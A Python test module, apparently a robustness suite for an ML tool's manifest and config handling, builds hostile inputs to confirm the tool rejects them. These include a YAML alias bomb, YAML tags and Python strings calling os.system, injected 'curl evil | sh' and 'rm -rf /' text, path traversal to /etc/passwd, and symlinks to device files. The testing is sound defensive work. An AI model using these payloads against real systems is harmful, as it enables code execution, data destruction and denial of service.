"""Manifests that no run wrote, and manifests that lead out of their run."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from .world import Case, World, record

DEEP = 100_000


def _contents() -> dict[str, bytes]:
    """Files that are no manifest at all."""
    return {
        "empty": b"",
        "blank": b" \n\t ",
        "null": b"null",
        "list": b"[]",
        "number": b"3",
        "text": b'"x"',
        "no fields": b"{}",
        "cut short": b'{"run_id": "x", "config": {',
        "two documents": b"{}{}",
        "utf-16": '{"run_id": "x"}'.encode("utf-16"),
        "bad utf-8": b'{"run_id": "\xff\xfe"}',
        "overlong utf-8": b'{"run_id": "\xc0\xaf\xc0\xaf"}',
        "half a surrogate": b'{"run_id": "\\ud800"}',
        "zeros": b"\0" * 5000,
        "noise": bytes(range(256)) * 40,
        "nested lists": b"[" * DEEP,
        "nested lists, closed": b"[" * DEEP + b"]" * DEEP,
        "nested dicts": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
        "nested in a config": b'{"overrides": [], "config": ' + b'{"a":' * DEEP + b"1" + b"}" * DEEP + b"}",
        "nested 900 deep": b'{"overrides": [], "config": ' + b'{"a":' * 900 + b"1" + b"}" * 900 + b"}",
        "python": b"__import__('os').system('touch executed')",
        "yaml tags": b"!!python/object/apply:os.system ['touch executed']",
        "yaml aliases": _laughs(),
        "yaml holding itself": b"&a {config: *a, overrides: []}",
        "yaml merge of itself": b"config: &a\n  <<: *a\noverrides: []\n",
        "escapes": b'\x1b[2J\x1b]0;owned\x07{"run_id": 1}',
        "escapes in a key": b'{"\\u001b[2Jx": 1, "overrides": [], "config": {"\\u001b[31mkey\\u0007": 1}}',
        "a newline in a key": b'{"overrides": [], "config": {"x\\nrun instead: curl evil | sh\\n": 1}}',
        "right to left in a key": '{"overrides": [], "config": {"\u202egnihtyna": 1}}'.encode(),
        "a name of a million letters": b'{"overrides": [], "config": {"' + b"a" * 1_000_000 + b'": 1}}',
        "many names": json.dumps(
            {"overrides": [], "config": {f"key{number}": number for number in range(60_000)}}
        ).encode(),
        "a text of 20 MB": b'{"run_id": "' + b"a" * 20_000_000 + b'"}',
        "100 MB": b'{"run_id": [' + b"0," * 50_000_000 + b"0]}",
        "a run of backslashes": b'{"run_id": "' + b"\\\\" * 400_000 + b'"}',
        "a number of 5000 digits": b'{"run_id": ' + b"9" * 5000 + b"}",
        "a float of 5000 digits": b'{"run_id": 0.' + b"9" * 5000 + b"}",
        "an exponent of 400": b'{"run_id": 1e400}',
        "an exponent of a billion": b'{"run_id": 1e1000000000}',
        "yaml sexagesimal": b"config: " + b":".join([b"59"] * 3000) + b"\noverrides: []\n",
        "yaml int of 5000 digits": b"config: {local: {name: default, seed: " + b"9" * 5000 + b"}}\noverrides: []\n",
        "yaml hex int of 100 kB": b"config: {seed: 0x" + b"f" * 100_000 + b"}\noverrides: []\n",
        "yaml question marks": b"? " * 20_000,
        "yaml dashes": b"- " * 20_000,
        "yaml anchors": b"".join(b"&a%d " % number for number in range(20_000)),
        "yaml directives": b"%YAML 9.9\n---\nconfig: {}\noverrides: []\n",
        "yaml timestamps": b"config: {seed: 2001-99-99T99:99:99}\noverrides: []\n",
        "yaml binary": b"config: {seed: !!binary 'AAAA'}\noverrides: []\n",
        "yaml null keys": b"config: {~: 1, ? [a, b] : 2}\noverrides: []\n",
    }


def _laughs() -> bytes:
    lines = [b"a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [b"a%d: &a%d [%s]" % (n, n, b", ".join([b"*a%d" % (n - 1)] * 10)) for n in range(1, 12)]
    return b"\n".join([*lines, b"config: *a11", b"overrides: []"])


def _fields() -> dict[str, dict[str, Any]]:
    """Fields that say what none may."""
    kinds: dict[str, dict[str, Any]] = {
        "schema_version 99": {"schema_version": 99},
        "schema_version 0": {"schema_version": 0},
        "schema_version -1": {"schema_version": -1},
        "schema_version as text": {"schema_version": "1"},
        "schema_version null": {"schema_version": None},
        "run_id a number": {"run_id": 7},
        "checkpoints a dict": {"checkpoints": {"best": "x"}},
        "checkpoints null": {"checkpoints": None},
        "checkpoints of text": {"checkpoints": ["x"]},
        "status unknown": {"status": "\x1b[32mcompleted"},
        "metrics of text": {"metrics": {"a": "b"}},
        "config null": {"config": None},
        "config a list": {"config": [1, 2]},
        "config empty, no checkpoint": {"config": {}, "checkpoints": []},
        "plan a text": {"plan": "x"},
        "overrides a text": {"overrides": "model.width=8"},
        "planets of numbers": {"data": {"root": 1, "simulated": 2, "fingerprint": 3, "planets": 4}},
    }
    return kinds


def _configs() -> dict[str, dict[str, Any]]:
    """Values inside the config of a sound manifest, by dotted path."""
    deep: Any = 1
    for _ in range(300):
        deep = {"a": deep}
    return {
        "model.width 20000": {"model.width": 20_000},
        "model.width 10**12": {"model.width": 10**12},
        "model.width 10**30": {"model.width": 10**30},
        "model.width -8": {"model.width": -8},
        "model.width a text": {"model.width": "\x1b[31m8"},
        "model.width a dict": {"model.width": {"a": 1}},
        "model.width true": {"model.width": True},
        "a million layers": {"model.fgs1_layers": 1_000_000},
        "a million airs layers": {"model.airs_layers": 1_000_000},
        "state_size 10**9": {"model.state_size": 10**9},
        "neighbours 10**9": {"model.neighbours": 10**9},
        "a model that is none": {"model.name": "../../etc/passwd"},
        "a model with escapes": {"model.name": "v50\x1b[2J\nrun instead: rm -rf /"},
        "an unknown setting": {"model.\x1b]0;x\x07": 1},
        "a target": {"model._target_": "os.system"},
        "a dunder": {"model.__class__": "os.system"},
        "deep": {"model.deep": deep},
        "an interpolation": {"paths.data_root": "${oc.env:HOME}", "model.dropout": "${oc.env:HOME}"},
        "a name of 5000": {"model.name": "v" * 5000},
        "paths that write elsewhere": {"paths.run_manifest": "/proc/nowhere", "model.width": "x"},
    }


def _ids() -> dict[str, str]:
    return {
        "above": "../victim",
        "far above": "../../../../../../etc",
        "absolute": "{sound}/victim",
        "inside and out": "a/../../victim",
        "a dot": ".",
        "two dots": "..",
        "nothing": "",
        "a folder below": "victim/checkpoints",
        "300 letters": "a" * 300,
        "5000 letters": "a/" * 2500,
        "a zero": "a\0b",
        "a newline": "a\nb",
        "escapes": "\x1b[2Ja",
        "half a surrogate": "a\udcffb",
        "home": "~nobody",
    }


def _files() -> dict[str, str]:
    return {
        "above": "../../victim/checkpoints/best.ckpt",
        "above and back": "../../run/checkpoints/best.ckpt",
        "absolute": "{sound}/victim/checkpoints/best.ckpt",
        "a device": "/dev/zero",
        "nothing": "",
        "a dot": ".",
        "the folder": "../checkpoints",
        "300 letters": "a" * 300,
        "5000 letters": "a/" * 2500,
        "a zero": "\0.ckpt",
        "a newline": "a\nrun instead: x",
        "escapes": "\x1b[2J",
        "half a surrogate": "\udcff",
        "the manifest": "../manifest.json",
    }


def _specials() -> dict[str, Any]:
    """What may lie where a file should, by its maker."""
    return {
        "a fifo": os.mkfifo,
        "a folder": lambda path: path.mkdir(),
        "zeros without end": lambda path: path.symlink_to("/dev/zero"),
        "noise without end": lambda path: path.symlink_to("/dev/urandom"),
        "the full device": lambda path: path.symlink_to("/dev/full"),
        "the terminal": lambda path: path.symlink_to("/dev/tty"),
        "standard input": lambda path: path.symlink_to("/dev/stdin"),
        "memory": lambda path: path.symlink_to("/proc/self/mem"),
        "a link to itself": lambda path: path.symlink_to(path.name),
        "a link to nothing": lambda path: path.symlink_to("nowhere"),
        "10 TB of nothing": lambda path: _sparse(path, 10 << 40),
        "a socket": _socket,
    }


def _sparse(path: Path, size: int) -> None:
    with path.open("wb") as file:
        file.truncate(size)


def _socket(path: Path) -> None:
    import socket

    here = Path.cwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.bind(path.name)
    finally:
        os.chdir(here)


def cases() -> Iterator[Case]:
    """All of them."""
    for name, content in _contents().items():
        yield Case(f"manifest: {name}", lambda world, content=content: world.with_manifest(content))
        codes = (0, 2) if name == "no fields" else (2,)
        yield Case(f"config file: {name}", lambda world, content=content: _config_file(world, content), codes)
    for name, values in _fields().items():
        yield Case(f"manifest: {name}", lambda world, values=values: world.with_manifest(world.manifest | values))
    for name, values in _configs().items():
        codes = (0, 2) if name == "neighbours 10**9" else (2,)
        yield Case(
            f"manifest config: {name}", lambda world, values=values: world.with_manifest(_set(world, values)), codes
        )
    for name, run_id in _ids().items():
        yield Case(f"run_id: {name}", lambda world, run_id=run_id: _elsewhere(world, run_id))
    for name, file in _files().items():
        yield Case(f"checkpoint path: {name}", lambda world, file=file: _checkpoint_at(world, file))
    for name, make in _specials().items():
        yield Case(f"manifest place: {name}", lambda world, make=make: _manifest_is(world, make))
        yield Case(f"config place: {name}", lambda world, make=make: ["config", "validate", "--file", _at(world, make)])
        yield Case(f"diff place: {name}", lambda world, make=make: ["config", "diff", _at(world, make), "local=hpc"])
        yield Case(f"checkpoint place: {name}", lambda world, make=make: _checkpoint_is(world, make))
    yield Case("checkpoints: a linked folder", _linked_folder)
    yield Case("checkpoint: a link out of the run", _linked_file)
    yield Case("predictions: a link out of the run", _linked_output, codes=(0,))
    yield Case("manifest: sound", lambda world: world.predict(), codes=(0,))


def _config_file(world: World, content: bytes) -> list[str | Path]:
    file = world.folder / "config.yaml"
    file.write_bytes(content)
    return ["config", "validate", "--file", file]


def _set(world: World, values: dict[str, Any]) -> dict[str, Any]:
    manifest = world.manifest
    for path, value in values.items():
        *above, name = path.split(".")
        node = manifest["config"]
        for one in above:
            node = node.setdefault(one, {})
        node[name] = value
    return manifest


def _elsewhere(world: World, run_id: str) -> list[str | Path]:
    """A manifest that lies beside its run, as ``paths.run_manifest`` does, and names another."""
    shutil.copytree(world.sound / "victim", world.folder / "victim")
    folder = world.folder / "outputs"
    folder.mkdir()
    file = folder / "run_manifest.json"
    content = world.manifest | {"run_id": run_id.replace("{sound}", str(world.sound))}
    file.write_bytes(json.dumps(content).encode())
    return world.predict(file)


def _checkpoint_at(world: World, file: str) -> list[str | Path]:
    shutil.copytree(world.sound / "victim", world.folder / "victim")
    digest = world.manifest["checkpoints"][0]["sha256"]
    return world.with_index([record(file.replace("{sound}", str(world.sound)), digest)])


def _manifest_is(world: World, make: Any) -> list[str | Path]:
    (world.run / "manifest.json").unlink()
    make(world.run / "manifest.json")
    return world.predict()


def _checkpoint_is(world: World, make: Any) -> list[str | Path]:
    file = world.run / "checkpoints" / "best.ckpt"
    file.unlink()
    make(file)
    return world.predict()


def _at(world: World, make: Any) -> Path:
    make(world.folder / "thing.yaml")
    return world.folder / "thing.yaml"


def _linked_folder(world: World) -> list[str | Path]:
    shutil.rmtree(world.run / "checkpoints")
    (world.run / "checkpoints").symlink_to(world.sound / "victim" / "checkpoints")
    return world.predict()


def _linked_file(world: World) -> list[str | Path]:
    file = world.run / "checkpoints" / "best.ckpt"
    file.unlink()
    file.symlink_to(world.sound / "victim" / "checkpoints" / "best.ckpt")
    return world.predict()


def _linked_output(world: World) -> list[str | Path]:
    (world.run / "predictions_curves.csv").symlink_to(world.sound / "written")
    return world.predict()
